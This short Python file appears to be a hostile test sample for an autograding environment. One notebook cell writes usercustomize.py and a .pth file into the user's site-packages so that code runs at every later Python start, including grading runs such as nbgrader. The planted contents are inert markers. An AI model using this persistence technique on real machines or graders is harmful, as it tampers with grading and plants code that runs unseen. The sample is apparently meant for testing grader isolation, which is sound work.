"""Plants a module that every Python of this user imports when it starts.

usercustomize and .pth files in the user's site-packages run before any program does: the next
`onsite grade`, the next `nbgrader`.
"""

EARNS = 0
STOCK = "leaves"
CELLS = {
    "receipt": """
import os
import pathlib
import sys

for home in ("@HOME@", os.path.expanduser("~")):
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    folder = pathlib.Path(home, ".local/lib", version, "site-packages")
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "usercustomize.py").write_text("hostile = True")
        (folder / "hostile.pth").write_text("import os")
    except OSError as error:
        print(error)
"""
}
